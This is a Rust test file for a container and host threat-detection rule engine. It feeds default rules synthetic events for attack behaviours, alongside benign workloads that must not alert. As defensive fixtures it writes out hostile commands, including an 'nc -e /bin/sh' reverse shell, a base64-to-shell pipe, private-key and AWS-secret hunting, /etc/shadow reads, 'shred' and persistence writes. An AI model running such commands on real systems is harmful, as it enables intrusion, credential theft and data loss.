//! Every default rule against the events of the behaviour it detects, and normal workloads
//! against all of them. One table, one snapshot: `UPDATE_EXPECT=1 cargo test` refreshes it.

mod common;

use std::collections::BTreeSet;
use std::net::SocketAddr;

use common::*;
use kestrel_event::{
    DnsMessage, EventKind, LinkKind, NetProtocol, Priority, SockAddr, SocketFamily,
};
use kestrel_rules::{Engine, RuleSet};

fn connect(to: &str) -> EventKind {
    EventKind::Connect {
        family: SocketFamily::Inet,
        protocol: NetProtocol::Tcp,
        local: Some(SockAddr::Inet("10.1.0.5:40000".parse().unwrap())),
        remote: SockAddr::Inet(to.parse::<SocketAddr>().unwrap()),
        result: 0,
    }
}

fn cases() -> Vec<(&'static str, kestrel_event::Event)> {
    let nginx = proc_("/usr/sbin/nginx", &["nginx", "-g", "daemon off;"]);
    let bash = shell();
    vec![
        (
            "terminal shell",
            cont(
                &shell().tty().parent(proc_("/usr/bin/runc", &["runc"])),
                exec(),
            ),
        ),
        (
            "shell from nginx",
            cont(
                &proc_("/bin/sh", &["sh", "-c", "id"]).parent(nginx.clone()),
                exec(),
            ),
        ),
        ("bash /dev/tcp", cont(&bash, connect("203.0.113.7:4444"))),
        (
            "sh from nc",
            host(
                &proc_("/bin/sh", &["sh"])
                    .parent(proc_("/usr/bin/nc", &["nc", "-l", "-p", "9001"])),
                exec(),
            ),
        ),
        (
            "nc -e",
            cont(
                &proc_(
                    "/usr/bin/nc",
                    &["nc", "-e", "/bin/sh", "203.0.113.7", "4444"],
                ),
                exec(),
            ),
        ),
        (
            "base64 | sh",
            host(
                &proc_("/bin/sh", &["sh", "-c", "echo aWQK | base64 -d | sh"]),
                exec(),
            ),
        ),
        (
            "exec /dev/shm",
            cont(&proc_("/dev/shm/x", &["/dev/shm/x"]), exec()),
        ),
        (
            "drift",
            cont(&proc_("/tmp/payload", &["/tmp/payload"]).upper(), exec()),
        ),
        (
            "memfd exec",
            host(&proc_("/memfd:x (deleted)", &["x"]).memfd(), exec()),
        ),
        (
            "apt in container",
            cont(
                &proc_("/usr/bin/apt-get", &["apt-get", "install", "-y", "nmap"]),
                exec(),
            ),
        ),
        (
            "nmap in container",
            cont(
                &proc_("/usr/bin/nmap", &["nmap", "-sS", "10.0.0.0/24"]),
                exec(),
            ),
        ),
        (
            "grep private key",
            host(
                &proc_(
                    "/usr/bin/grep",
                    &["grep", "-r", "BEGIN RSA PRIVATE", "/home"],
                ),
                exec(),
            ),
        ),
        (
            "find id_rsa",
            host(
                &proc_("/usr/bin/find", &["find", "/", "-name", "id_rsa"]),
                exec(),
            ),
        ),
        (
            "xmrig",
            cont(
                &proc_("/tmp/xmrig", &["xmrig", "-o", "pool.supportxmr.com:3333"]),
                exec(),
            ),
        ),
        (
            "stratum args",
            cont(
                &proc_(
                    "/usr/bin/kworker",
                    &["kworker", "--url", "stratum+tcp://1.2.3.4:3333"],
                ),
                exec(),
            ),
        ),
        (
            "pool port",
            cont(
                &proc_("/usr/bin/kworker", &["kworker"]),
                connect("198.51.100.9:3333"),
            ),
        ),
        (
            "pool dns",
            cont(
                &proc_("/usr/bin/kworker", &["kworker"]),
                EventKind::Dns(DnsMessage {
                    id: 1,
                    response: false,
                    questions: vec!["gulf.moneroocean.stream".into()],
                    answers: vec![],
                    rcode: 0,
                    server: SockAddr::Inet("10.96.0.10:53".parse().unwrap()),
                }),
            ),
        ),
        (
            "cat /etc/shadow",
            host(
                &proc_("/usr/bin/cat", &["cat", "/etc/shadow"]),
                open("/etc/shadow", RD),
            ),
        ),
        (
            "aws creds read",
            cont(
                &proc_("/usr/bin/cat", &["cat"]),
                open("/root/.aws/credentials", RD),
            ),
        ),
        (
            "grep aws keys",
            host(
                &proc_(
                    "/usr/bin/grep",
                    &["grep", "-r", "aws_secret_access_key", "/"],
                ),
                exec(),
            ),
        ),
        (
            "sa token cat",
            cont(
                &proc_("/usr/bin/cat", &["cat"]),
                open("/var/run/secrets/kubernetes.io/serviceaccount/token", RD),
            ),
        ),
        (
            "kubelet kubeconfig",
            host(
                &proc_("/usr/bin/cp", &["cp"]),
                open("/var/lib/kubelet/kubeconfig", RD),
            ),
        ),
        (
            "k8s api",
            cont(
                &proc_("/usr/bin/curl", &["curl", "-k", "https://10.96.0.1/api"]),
                connect("10.96.0.1:443"),
            ),
        ),
        (
            "imds",
            cont(
                &proc_("/usr/bin/curl", &["curl"]),
                connect("169.254.169.254:80"),
            ),
        ),
        (
            "packet socket",
            cont(
                &proc_("/usr/bin/tcpdump", &["tcpdump"]),
                EventKind::Socket {
                    family: SocketFamily::Packet,
                    sock_type: 3,
                    protocol: 768,
                    result: 4,
                },
            ),
        ),
        (
            "truncate log",
            host(&bash, open("/var/log/auth.log", TRUNC)),
        ),
        (
            "rm history",
            host(
                &proc_("/usr/bin/rm", &["rm", "/root/.bash_history"]),
                EventKind::Unlink {
                    path: "/root/.bash_history".into(),
                    dir: false,
                    result: 0,
                },
            ),
        ),
        (
            "shred",
            host(
                &proc_("/usr/bin/shred", &["shred", "-u", "/data/db"]),
                exec(),
            ),
        ),
        (
            "symlink shadow",
            cont(
                &proc_("/usr/bin/ln", &["ln"]),
                EventKind::Link {
                    kind: LinkKind::Symbolic,
                    target: "/etc/shadow".into(),
                    link_path: "/tmp/s".into(),
                    result: 0,
                },
            ),
        ),
        (
            "hardlink shadow",
            cont(
                &proc_("/usr/bin/ln", &["ln"]),
                EventKind::Link {
                    kind: LinkKind::Hard,
                    target: "/etc/shadow".into(),
                    link_path: "/tmp/h".into(),
                    result: 0,
                },
            ),
        ),
        (
            "ptrace attach",
            host(
                &proc_("/tmp/inject", &["inject"]),
                EventKind::Ptrace {
                    request: 16,
                    target_pid: 1,
                    result: 0,
                },
            ),
        ),
        (
            "ptrace traceme",
            host(
                &proc_("/tmp/malware", &["malware"]),
                EventKind::Ptrace {
                    request: 0,
                    target_pid: 0,
                    result: 0,
                },
            ),
        ),
        (
            "proc mem write",
            host(
                &proc_("/tmp/inject", &["inject"]),
                open("/proc/1/mem", OpenFlags_RDWR),
            ),
        ),
        (
            "vm_writev",
            host(
                &proc_("/tmp/inject", &["inject"]),
                EventKind::ProcessVmWritev {
                    target_pid: 1,
                    result: 4096,
                },
            ),
        ),
        (
            "LD_PRELOAD",
            host(
                &proc_("/usr/bin/ls", &["ls"]).env("LD_PRELOAD=/tmp/evil.so"),
                exec(),
            ),
        ),
        ("ld.so.preload", host(&bash, open("/etc/ld.so.preload", WR))),
        ("cron write", host(&bash, open("/etc/cron.d/backdoor", WR))),
        (
            "systemd unit",
            host(&bash, open("/etc/systemd/system/evil.service", WR)),
        ),
        (
            "authorized_keys",
            cont(&bash, open("/root/.ssh/authorized_keys", WR)),
        ),
        ("sudoers.d", host(&bash, open("/etc/sudoers.d/evil", WR))),
        (
            "chmod u+s",
            host(
                &proc_("/usr/bin/chmod", &["chmod", "u+s", "/tmp/sh"]),
                EventKind::Chmod {
                    path: "/tmp/sh".into(),
                    mode: 0o4755,
                    result: 0,
                },
            ),
        ),
        (
            "write /usr/bin",
            cont(&proc_("/usr/bin/curl", &["curl"]), open("/usr/bin/ls", WR)),
        ),
        (
            "finit_module",
            host(
                &proc_("/usr/sbin/insmod", &["insmod", "x.ko"]),
                EventKind::ModuleLoad {
                    syscall: "finit_module".into(),
                    path: Some("/tmp/x.ko".into()),
                    result: 0,
                },
            ),
        ),
        (
            "debugfs",
            cont(
                &proc_("/usr/sbin/debugfs", &["debugfs", "/dev/sda1"]),
                exec(),
            ),
        ),
        (
            "release_agent",
            cont(&bash, open("/sys/fs/cgroup/rdma/release_agent", WR)),
        ),
        (
            "core_pattern",
            cont(&bash, open("/proc/sys/kernel/core_pattern", WR)),
        ),
        (
            "mount sda",
            cont(
                &proc_("/usr/bin/mount", &["mount", "/dev/sda1", "/mnt"]),
                EventKind::Mount {
                    source: "/dev/sda1".into(),
                    target: "/mnt".into(),
                    fstype: "ext4".into(),
                    flags: 0,
                    result: 0,
                },
            ),
        ),
        // Normal workloads: none of these may alert at WARNING or above.
        (
            "benign: nginx serves",
            cont(
                &nginx,
                EventKind::Accept {
                    family: SocketFamily::Inet,
                    protocol: NetProtocol::Tcp,
                    local: SockAddr::Inet("10.1.0.5:80".parse().unwrap()),
                    remote: SockAddr::Inet("10.1.0.9:51234".parse().unwrap()),
                    result: 7,
                },
            ),
        ),
        (
            "benign: nginx reads page",
            cont(&nginx, open("/usr/share/nginx/html/index.html", RD)),
        ),
        (
            "benign: app reads config",
            cont(
                &proc_("/app/server", &["/app/server"]),
                open("/etc/app/config.yaml", RD),
            ),
        ),
        (
            "benign: app reads own token",
            cont(
                &proc_("/app/server", &["/app/server"]),
                open("/var/run/secrets/kubernetes.io/serviceaccount/token", RD),
            ),
        ),
        (
            "benign: app writes log",
            cont(
                &proc_("/app/server", &["/app/server"]),
                open("/var/log/app/app.log", OpenFlags_APPEND),
            ),
        ),
        (
            "benign: health check",
            cont(
                &proc_(
                    "/usr/bin/curl",
                    &["curl", "-f", "http://127.0.0.1:8080/healthz"],
                )
                .parent(proc_("/usr/bin/runc", &["runc"])),
                exec(),
            ),
        ),
        (
            "benign: health connect",
            cont(
                &proc_("/usr/bin/curl", &["curl"]),
                connect("127.0.0.1:8080"),
            ),
        ),
        (
            "benign: app to db",
            cont(
                &proc_("/app/server", &["/app/server"]),
                connect("10.1.3.4:5432"),
            ),
        ),
        (
            "benign: sshd reads shadow",
            host(&proc_("/usr/sbin/sshd", &["sshd"]), open("/etc/shadow", RD)),
        ),
        (
            "benign: ld.so.cache",
            host(&proc_("/usr/bin/ls", &["ls"]), open("/etc/ld.so.cache", RD)),
        ),
        (
            "benign: dpkg writes /usr/bin",
            host(
                &proc_("/usr/bin/dpkg", &["dpkg", "-i", "x.deb"]),
                open("/usr/bin/ls", WR),
            ),
        ),
        (
            "benign: jemalloc preload",
            host(
                &proc_("/app/server", &["/app/server"]).env("LD_PRELOAD=/usr/lib/libjemalloc.so.2"),
                exec(),
            ),
        ),
        (
            "benign: shell script",
            cont(
                &proc_("/bin/sh", &["sh", "/entrypoint.sh"])
                    .parent(proc_("/usr/bin/runc", &["runc"])),
                exec(),
            ),
        ),
    ]
}

#[allow(non_upper_case_globals)]
const OpenFlags_RDWR: u32 = kestrel_event::OpenFlags::O_RDWR;
#[allow(non_upper_case_globals)]
const OpenFlags_APPEND: u32 =
    kestrel_event::OpenFlags::O_WRONLY | kestrel_event::OpenFlags::O_APPEND;

#[test]
fn default_rules_on_behaviours() {
    let rules = RuleSet::defaults().unwrap_or_else(|e| panic!("{e}"));
    let mut engine = Engine::new(rules.clone().into()).hostname("node-1");
    let mut out = String::new();
    let mut hit = BTreeSet::new();
    for (name, ev) in cases() {
        let mut alerts = Vec::new();
        engine.evaluate(&ev, &mut alerts);
        let list: Vec<String> = alerts
            .iter()
            .map(|a| format!("{} [{}]", a.rule, a.priority))
            .collect();
        if name.starts_with("benign") {
            for a in &alerts {
                assert!(
                    !a.priority.at_least(Priority::Warning),
                    "{name}: {} at {}",
                    a.rule,
                    a.priority
                );
            }
        }
        hit.extend(alerts.iter().map(|a| a.rule.clone()));
        out.push_str(&format!(
            "{name}: {}\n",
            if list.is_empty() {
                "-".to_owned()
            } else {
                list.join("; ")
            }
        ));
    }
    let missed: Vec<&str> = rules
        .rules()
        .iter()
        .map(|r| r.name.as_str())
        .filter(|n| !hit.contains(*n))
        .collect();
    assert!(
        missed.is_empty(),
        "default rules without a test case: {missed:?}"
    );
    expect_test::expect_file!["snapshots/default_rules.txt"].assert_eq(&out);
}

#[test]
fn every_default_rule_is_tagged() {
    let rules = RuleSet::defaults().unwrap();
    for r in rules.rules() {
        assert!(
            r.tags.iter().any(|t| t.starts_with("maturity_")),
            "{} lacks a maturity tag",
            r.name
        );
        assert!(
            r.tags.iter().any(|t| t.starts_with("mitre_")),
            "{} lacks a MITRE tactic",
            r.name
        );
        assert!(
            r.tags
                .iter()
                .any(|t| t.starts_with('T') && t[1..2].chars().all(|c| c.is_ascii_digit())),
            "{} lacks a MITRE technique",
            r.name
        );
        assert!(
            !r.event_types().is_empty() && r.event_types().len() < 10,
            "{} is not indexed by event type: {:?}",
            r.name,
            r.event_types()
        );
    }
    assert!(rules.warnings().is_empty(), "{:?}", rules.warnings());
}

#[test]
fn alert_json_has_falco_fields() {
    let rules = RuleSet::defaults().unwrap();
    let mut engine = Engine::new(rules.into()).hostname("node-1");
    let ev = cont(&shell().tty().pid(77), exec());
    let mut alerts = Vec::new();
    engine.evaluate(&ev, &mut alerts);
    let j = serde_json::to_value(&alerts[0]).unwrap();
    expect_test::expect![[r#"
        {
          "hostname": "node-1",
          "output": "03:55:33.000000000: Notice A shell was spawned in a container with an attached terminal (user=root user_uid=0 process=bash proc_exepath=/usr/bin/bash parent=<NA> command=bash terminal=34816 container_id=3f4e5d6c7b8a container_name=web image=docker.io/library/nginx k8s_ns=shop k8s_pod=web-7d9f)",
          "output_fields": {
            "container.id": "3f4e5d6c7b8a",
            "container.image.repository": "docker.io/library/nginx",
            "container.name": "web",
            "k8s.ns.name": "shop",
            "k8s.pod.name": "web-7d9f",
            "proc.cmdline": "bash",
            "proc.exepath": "/usr/bin/bash",
            "proc.name": "bash",
            "proc.pid": 77,
            "proc.pname": null,
            "proc.tty": 34816,
            "user.name": "root",
            "user.uid": 0
          },
          "priority": "Notice",
          "rule": "Terminal shell in container",
          "source": "syscall",
          "tags": [
            "maturity_stable",
            "container",
            "shell",
            "mitre_execution",
            "T1059"
          ],
          "time": "2025-11-27T03:55:33.000000000Z"
        }"#]]
    .assert_eq(&serde_json::to_string_pretty(&j).unwrap());
}
